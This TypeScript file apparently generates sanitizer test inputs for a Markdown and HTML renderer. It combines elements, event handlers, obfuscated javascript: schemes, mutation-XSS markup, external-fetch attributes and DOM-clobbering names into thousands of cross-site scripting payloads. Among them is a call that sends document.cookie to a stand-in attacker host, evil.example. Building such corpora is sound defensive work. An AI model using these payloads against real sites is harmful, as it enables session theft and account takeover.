import { distinct, everyPair } from "./combine";

/** What would run if it ever reached a page as markup. */
const CALLS = ["alert(1)", "window.hostile=1", "fetch('//evil.example/'+document.cookie)"];

const HANDLERS = [
  ...["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend"],
  ...["onpointerenter", "onbeforetoggle", "onwheel", "oncontentvisibilityautostatechange"],
];

const ELEMENTS = [
  ...["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open"],
  ...["marquee", "iframe", "object data=x", "embed src=x", "select autofocus", "math", "a href=#"],
  ...["button popovertarget=x", "x tabindex=1 id=x", "style", "link rel=stylesheet href=x"],
];

const SCHEMES = [
  ...[
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\tjavascript:",
    "java\nscript:",
    "java\tscript:",
  ],
  ...[
    "\u0001javascript:",
    "javascript&colon;",
    "javascript&#58;",
    "&#106;avascript:",
    "&#x6a;avascript:",
  ],
  ...["javascript\u0000:", "vbscript:", "livescript:", "data:text/html,", "data:text/html;base64,"],
  ...["data:image/svg+xml,", "blob:", "filesystem:", "view-source:javascript:", "feed:javascript:"],
  ...[
    "file:///",
    "about:",
    "intent:",
    "jav&Tab;ascript:",
    "jav&NewLine;ascript:",
    "java\u202Escript:",
  ],
  ...[
    "//evil.example/",
    "\\\\evil.example\\",
    "/\\evil.example/",
    "https:evil.example",
    "///evil.example/",
  ],
];

/** Where Markdown takes an address. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][y]\n\n[y]: ${address}`,
  (address) => `![x][y]\n\n[y]: <${address}> "t"`,
  (address) => `[![a](${address})](${address})`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<img src='${address}'>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `| [x](${address}) |\n|---|\n| ![y](${address}) |`,
];

/** Markup, given what it shall run. */
const MARKUP: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT/x>${call}</SCRIPT >`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script src="//evil.example/x.js" data-x="${call}"></script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<textarea></textarea><img src=x onerror=${call}>`,
  (call) => `<title><a title="</title><img src=x onerror=${call}>">`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<style><!--</style><img src=x onerror=${call}>-->`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<object data="data:text/html,<script>${call}</script>">`,
  (call) => `<img src="x\` \`<script>${call}</script>"\` \`>`,
  (call) => `<img """><script>${call}</script>">`,
  (call) => `<a href="x"onclick="${call}">x</a>`,
  (call) => `<a title='"'onmouseover='${call}'>x</a>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `<?xml?><img src=x onerror=${call}>`,
  (call) => `<p style="background:url(javascript:${call})">x</p>`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  (call) => `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  (call) => `<\u0000script>${call}</script>`,
  (call) => `<form id=x><input name=attributes onfocus=${call} autofocus></form>`,
  (call) => `<option>&lt;script&gt;${call}&lt;/script&gt;</option>`,
  (call) => `<a class="mention" href="/people/1" onclick="${call}">@staff</a>`,
  (call) => `<div class="table-scroll" onfocus="${call}" tabindex=0>x</div>`,
  (call) => `[x](https://a.example/"onmouseover="${call})`,
  (call) => `[x](https://a.example "t\\" onmouseover=${call} x=\\"")`,
  (call) => `![x" onerror="${call}](/attachments/a1)`,
  (call) => `![x](/attachments/a1"onerror="${call})`,
  (call) => `\`\`\`"><img src=x onerror=${call}>\nx\n\`\`\``,
  (call) => `\`<img src=x onerror=${call}>\``,
  (call) => `| <img src=x onerror=${call}> |\n|---|\n| "><script>${call}</script> |`,
  (call) => `@<img src=x onerror=${call}>`,
  (call) => `<https://a.example/"onclick="${call}">`,
  (call) => `https://a.example/"><script>${call}</script>`,
];

/** Where in a text it stands. */
const PLACES: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `# ${inner}`,
  (inner) => `> - ${inner}\n>   more`,
  (inner) => `- [ ] ${inner}`,
  (inner) => `**a ${inner} b** ~~${inner}~~`,
  (inner) => `<div>\n\n${inner}\n\n</div>`,
  (inner) => `[${inner}](https://a.example)`,
  (inner) => `你好 ${inner} 谢谢`,
];

/** About 5,000 ways to bring script into a page through a Markdown text or a field. */
export function xssInputs(): string[] {
  const handlers = everyPair(
    ELEMENTS,
    HANDLERS,
    (element, handler) => `<${element} ${handler}=alert(1)>`,
  );
  const unspaced = everyPair(
    ELEMENTS,
    HANDLERS,
    (element, handler) => `"'><${element.replaceAll(" ", "/")}/${handler}="alert(1)"`,
  );
  const addresses = everyPair(SCHEMES, LINKS, (scheme, link) => link(`${scheme}alert(1)`));
  const markup = everyPair(MARKUP, CALLS, (make, call) => make(call));
  return distinct([
    ...everyPair([...markup, ...addresses], PLACES, (inner, place) => place(inner)),
    ...everyPair([...handlers, ...unspaced], PLACES.slice(0, 3), (inner, place) => place(inner)),
  ]);
}

/** Attributes and elements that make a browser fetch from elsewhere, or give the page a name. */
export function reachingOutInputs(): string[] {
  const address = [
    "https://evil.example/p.png",
    "//evil.example/p",
    "http://127.0.0.1/p",
    "ftp://evil.example/p",
  ];
  const shapes: readonly ((to: string) => string)[] = [
    (to) => `![](${to})`,
    (to) => `![a][b]\n\n[b]: ${to}`,
    (to) => `<img src="${to}" srcset="${to} 2x, ${to} 3x" sizes=1px>`,
    (to) => `<picture><source srcset="${to}"><img lowsrc="${to}" dynsrc="${to}"></picture>`,
    (to) => `<video poster="${to}" src="${to}"><track src="${to}"></video>`,
    (to) => `<audio src="${to}"></audio>`,
    (to) => `<table background="${to}"><tr><td background="${to}">x</table>`,
    (to) => `<p style="background:url(${to});list-style:url('${to}')">x</p>`,
    (to) => `<style>@import "${to}"; @font-face{font-family:a;src:url(${to})}</style>`,
    (to) =>
      `<link rel="prefetch stylesheet icon preload" as=image href="${to}" imagesrcset="${to}">`,
    (to) => `<svg><image href="${to}"/><use xlink:href="${to}#a"/><feImage href="${to}"/></svg>`,
    (to) => `<iframe src="${to}"></iframe><frame src="${to}"><embed src="${to}">`,
    (to) => `<object data="${to}" codebase="${to}" classid="${to}"></object>`,
    (to) => `<input type=image src="${to}"><button formaction="${to}">x</button>`,
    (to) => `<body background="${to}"><bgsound src="${to}">`,
    (to) => `<a ping="${to}" href="/questions">x</a>`,
    (to) => `<form action="${to}" id=f name=f><input form=f name=q></form>`,
    (to) => `<meta http-equiv=refresh content="0; url=${to}"><base href="${to}">`,
    (to) => `<script src="${to}"></script><html manifest="${to}">`,
    (to) => `<blockquote cite="${to}"><q cite="${to}">x</q><img longdesc="${to}" usemap="#m">`,
  ];
  return everyPair(address, shapes, (to, shape) => shape(to));
}

/** Names and ids that would shadow what scripts look up in the page. */
export function clobberingInputs(): string[] {
  const names = [
    "location",
    "cookie",
    "getElementById",
    "body",
    "forms",
    "__proto__",
    "attributes",
    "top",
  ];
  const shapes: readonly ((name: string) => string)[] = [
    (name) => `<a id=${name} name=${name}>x</a>`,
    (name) => `<img name="${name}" id="${name}" src="/attachments/a1">`,
    (name) => `<form name=${name}><input name=${name} id=${name}></form>`,
    (name) => `# ${name}`,
    (name) => `## ${name} {#${name}}`,
    (name) => `[x](#${name} "${name}")`,
    (name) => `<iframe name=${name}></iframe><map name=${name}>`,
    (name) => `| ${name} |\n|---|\n| <b id=${name}>x</b> |`,
    (name) => `[^${name}]\n\n[^${name}]: a note`,
  ];
  return everyPair(names, shapes, (name, shape) => shape(name));
}
